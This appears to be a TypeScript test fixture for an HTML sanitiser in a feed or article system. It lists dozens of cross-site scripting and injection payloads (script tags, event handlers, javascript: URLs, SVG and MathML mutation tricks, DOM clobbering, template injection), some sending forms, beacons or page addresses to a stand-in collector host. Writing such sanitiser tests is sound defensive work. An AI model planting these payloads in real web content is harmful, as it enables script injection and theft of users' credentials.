import type { TestArticle } from './publisher';

/** Code that the page must never run; it leaves a name on `window`. */
const run = (name: string): string => `window.__xss='${name}'`;
const buildImage = (name: string): string => `<img src=nowhere onerror="${run(name)}">`;
const toScriptUrl = (name: string): string => `javascript:${run(name)}`;
const joinMarkup = (...pieces: string[]): string => pieces.join('');
const FOREIGN = 'https://collector.example';

/** Stands before the markup, so that something is visible whatever the sanitiser removes. */
export const BEFORE = 'Before.';

/** Kinds of hostile markup, each the body of one article. */
const BODIES: Readonly<Record<string, string>> = {
  script: `<script>${run('script')}</script>`,
  'script cut in two': `<scr<script>ipt>${run('halves')}</scr</script>ipt>`,
  'picture that fails': buildImage('picture'),
  'vector drawing that loads': `<svg onload="${run('drawing')}"></svg>`,
  'script in a drawing': `<svg><script>${run('in a drawing')}</script></svg>`,
  'drawing that moves a link': joinMarkup(
    `<svg><a><animate attributeName=href values="${toScriptUrl('moved')}" />`,
    '<text y=20>x</text></a></svg>',
  ),
  'drawing that uses another': joinMarkup(
    `<svg><use href="data:image/svg+xml,<svg id=a onload=${run('used')}></svg>#a">`,
    '</svg>',
  ),
  'formula with a link': joinMarkup(
    `<math><maction actiontype="statusline" xlink:href="${toScriptUrl('math')}">x`,
    '</maction></math>',
  ),
  'style in foreign content': joinMarkup(
    '<svg></p><style><a title="</style>',
    `${buildImage('style').replaceAll('"', '&quot;')}">`,
  ),
  'formula and table': `<math><mtext><table><mglyph><style><!--</style>${buildImage('mglyph')}`,
  'markup without scripting': `<noscript><p title="</noscript>${buildImage('noscript')}">`,
  'raw text of old': `<xmp><p title="</xmp>${buildImage('xmp')}"></xmp>`,
  'listing of old': `<listing>${buildImage('listing')}</listing>`,
  'text area': `<textarea></textarea>${buildImage('textarea')}`,
  'title element': `<title></title>${buildImage('title')}`,
  'frame with its own document': `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
  'frame by script address': `<iframe src="javascript:parent.${run('frame')}"></iframe>`,
  'frame of another site': `<iframe src="${FOREIGN}/login"></iframe>`,
  object: joinMarkup(
    `<object data="data:text/html,<script>${run('object')}</script>"></object>`,
    `<embed src="${FOREIGN}/a">`,
  ),
  form: joinMarkup(
    `<form action="${FOREIGN}"><input name=password autofocus onfocus="${run('focus')}">`,
    `<button formaction="${toScriptUrl('form')}">x</button></form>`,
  ),
  'address of the page': `<base href="${FOREIGN}/"><a href="steal">x</a><img src="pixel.png">`,
  'refreshing page': `<meta http-equiv=refresh content="0;url=${FOREIGN}/away">`,
  'style sheet': `<link rel=stylesheet href="${FOREIGN}/a.css"><style>@import '${FOREIGN}/b.css'</style>`,
  'style by attribute': `<p style="background:url(${FOREIGN}/c.gif);position:fixed;inset:0">over</p>`,
  'link by script address': `<a href="${toScriptUrl('link')}">x</a>`,
  'link by hidden script address': `<a href=" &#1;jAvA&#10;script&colon;${run('hidden link')}">x</a>`,
  'link by data': `<a href="data:text/html,<script>${run('data')}</script>">x</a>`,
  'link with a beacon': joinMarkup(
    `<a href="https://fine.example/" ping="${FOREIGN}/ping"`,
    ` onclick="${run('click')}">x</a>`,
  ),
  'attribute that breaks out': `<a href="https://fine.example/&quot; onmouseover=&quot;${run('break out')}">x</a>`,
  'picture set': `<img srcset="${toScriptUrl('set')} 1x, data:text/html,x 2x" onload="${run('set')}">`,
  'sound that starts': joinMarkup(
    `<audio src="${FOREIGN}/a.mp3" autoplay loop`,
    ` onplay="${run('play')}" onerror="${run('sound')}"></audio>`,
  ),
  'film with a source': `<video autoplay><source src="${FOREIGN}/a.mp4" onerror="${run('film')}"></video>`,
  'animation event': `<p style="animation-name:x" onanimationstart="${run('animation')}">x</p>`,
  'popover event': joinMarkup(
    `<p popover id=p onbeforetoggle="${run('popover')}">x</p>`,
    '<button popovertarget=p>x</button>',
  ),
  'details event': `<details open ontoggle="${run('details')}"><summary>x</summary>y</details>`,
  'marquee event': `<marquee onstart="${run('marquee')}">x</marquee>`,
  'comment that ends early': `<!-->${buildImage('comment')}-->`,
  'conditional comment': `<!--[if IE]><script>${run('condition')}</script><![endif]-->`,
  'processing instruction': `<?xml-stylesheet href="${toScriptUrl('instruction')}"?>`,
  'question to this service': joinMarkup(
    '<img src="/api/canary"><a href="/api/canary">x</a>',
    '<img src="http://127.0.0.1:9/api/canary">',
  ),
  'names that shadow the page': joinMarkup(
    '<img name=body><a id=cookie name=cookie></a>',
    '<form id=document><input name=documentElement></form>',
  ),
  'template and slot': joinMarkup(
    `<template><script>${run('template')}</script></template>`,
    `<div><slot>${buildImage('slot')}</slot></div>`,
  ),
};

/** Hostile markup in fields that hold plain text. */
const WORDS: readonly TestArticle[] = [
  { title: buildImage('title words'), html: '<p>x</p>' },
  { title: '{{constructor.constructor("window.__xss=1")()}}', html: '<p>x</p>' },
  { title: 'author', author: `"><svg/onload="${run('author')}">`, html: '<p>x</p>' },
  { title: 'link', link: `${toScriptUrl('item link')}`, html: '<p>x</p>' },
  { title: 'comments', comments: `JaVaScRiPt:${run('comments')}`, html: '<p>x</p>' },
  {
    title: 'file',
    html: '<p>x</p>',
    enclosure: { url: `${toScriptUrl('file')}`, type: 'audio/mpeg', length: 1 },
  },
];

/** Enough surrounding text that extraction recognises an article with the markup inside it. */
export const AROUND = 'This page says what pages say, so it reads like an article.';
const WORDS_AROUND = `<p>${`${AROUND} `.repeat(6)}</p>`;

/** The markup as the feed has it, and again on the article's own page. */
export const HOSTILE: readonly TestArticle[] = [
  ...Object.entries(BODIES).map(([title, html]) => ({
    title,
    html: `<p>${BEFORE}</p>${html}`,
    page: `<!doctype html><title>${title}</title><article><h1>${title}</h1>${WORDS_AROUND}${html}
      ${WORDS_AROUND}</article>`,
  })),
  ...WORDS,
];
